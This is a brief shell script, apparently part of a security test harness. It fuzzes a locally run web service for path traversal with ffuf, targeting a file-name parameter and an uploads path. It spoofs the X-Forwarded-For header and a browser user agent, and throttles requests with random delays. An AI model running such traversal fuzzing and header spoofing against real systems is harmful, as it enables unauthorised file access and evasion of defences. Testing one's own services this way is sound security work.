#!/bin/sh
# Climbs out of the file folder: a parameter first, then the path. PORT ADDRESS DIR
set -eu
python3 "$(dirname "$0")/wordlists.py" climbs > "$3/climbs.txt"
for target in "api/v1/files?name=FUZZ" "uploads/FUZZ"; do
    timeout 120 ffuf -s -w "$3/climbs.txt" -u "http://127.0.0.1:$1/$target" -t 1 -p 0.1-0.5 \
        -H "X-Forwarded-For: $2" -H "User-Agent: Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0.0.0 Safari/537.36" \
        > "$3/ffuf.txt"
done
